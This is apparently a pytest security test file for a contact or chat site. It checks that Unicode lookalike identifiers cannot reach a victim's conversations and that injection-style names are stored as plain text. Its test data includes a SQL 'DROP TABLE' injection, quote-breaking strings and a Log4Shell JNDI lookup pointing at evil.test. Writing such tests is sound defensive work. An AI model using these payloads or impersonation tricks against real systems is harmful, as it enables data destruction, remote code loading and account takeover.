"""Names that look like somebody else's, and names that a database might take for something else than a name."""

from __future__ import annotations

import pytest

from attack.site import Site, Victim


@pytest.mark.rule("M1", "M2")
@pytest.mark.parametrize(
    "disguise",
    ["{}\u200b", "\u200b{}", "\u202e{}", "{}\u00ad", "\ufeff{}", "{}\u0301", "{}\u2060", "{} ", "{}\u3000"],
    ids=ascii,
)
def test_lookalike_external_id_is_another_contact(site: Site, victim: Victim, disguise: str) -> None:
    before = victim.data()
    for field, name in (("external_id", victim.external_id), ("email", victim.email)):
        local, at, host = name.partition("@")
        attacker = site.browser()
        attacker.join()
        if field == "external_id":
            attacker.prove(disguise.format(name), name="Mallory")
        else:
            email = disguise.format(local) + at + host
            attacker.identify(email=email, user_hash=site.hash(email), name="Mallory")
        assert attacker.conversations() == set()
    assert victim.data() == before


@pytest.mark.parametrize(
    "name",
    [
        "'; DROP TABLE contact; --",
        '" OR ""="',
        "%",
        "_",
        "\\",
        "$1",
        "%s",
        "{0}",
        "${jndi:ldap://evil.test/a}",
        "x' || 'y",
    ],
)
def test_command_as_external_id_is_plain_text(site: Site, victim: Victim, name: str) -> None:
    before = victim.data()
    contact_id = site.browser().prove(name, name=name, custom_data={"a": name}).json()["contact_id"]
    stored = site.contact(contact_id)
    assert (stored["external_id"], stored["name"], stored["custom_data"]) == (name, name, {site.app_key: {"a": name}})
    assert [each["id"] for each in site.has(external_id=name)] == [contact_id]
    assert site.has(email=name) == []
    assert victim.data() == before
